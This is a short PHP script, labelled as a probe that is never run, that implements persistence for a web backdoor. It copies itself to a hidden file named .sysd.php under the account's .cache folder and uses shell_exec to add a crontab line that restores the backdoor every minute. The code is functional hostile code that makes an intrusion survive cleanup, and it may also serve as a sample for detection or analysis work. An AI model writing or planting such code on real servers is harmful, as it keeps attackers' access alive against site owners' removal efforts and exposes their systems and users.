<?php
// probe (never run): a copy of the backdoor hidden in the account, and a crontab line that brings it back each minute
$home = getenv('HOME') ?: dirname($_SERVER['DOCUMENT_ROOT']);
$keep = $home . '/.cache/.sysd.php';
@mkdir(dirname($keep));
copy(__FILE__, $keep);
$job = "* * * * * cp $keep " . __FILE__ . " >/dev/null 2>&1";
shell_exec('(crontab -l 2>/dev/null; echo "' . $job . '") | crontab -');
